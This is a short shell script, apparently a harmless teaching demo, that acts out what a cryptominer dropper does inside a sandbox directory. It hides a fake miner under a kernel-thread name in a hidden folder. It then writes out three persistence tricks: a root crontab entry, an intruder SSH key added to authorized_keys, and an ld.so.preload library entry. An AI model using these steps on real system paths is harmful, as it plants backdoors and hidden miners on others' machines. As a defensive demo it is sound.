# SPDX-License-Identifier: Apache-2.0
#
# What a dropper does, without harm: it writes only below the demo's own directory, which stands
# for the host, and the "miner" that it settles is a Python script that wastes a little time.
# Each step waits for its cue, and ends with the demo if none comes.

# 1. A miner in a hidden directory, under a kernel thread's name.
read -r _ <cues/settle || exit
mkdir .x
cp "$INTERPRETER" .x/kswapd0
cp miner.py .x/config
cp watchdog.sh .x/run
sh .x/run &

# 2. Three ways to come back: a cron line, an SSH key, a library preloaded into everything.
read -r _ <cues/cron || exit
echo "* * * * * root $PWD/.x/kswapd0" >>root/etc/crontab
read -r _ <cues/key || exit
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFNvbWVib2R5RWxzZXNLZXlPZkhpc093bi4u intruder" \
	>>root/root/.ssh/authorized_keys
read -r _ <cues/preload || exit
echo "$PWD/.x/libhide.so" >>root/etc/ld.so.preload

# 3. Stay, and see that the miner does.
wait
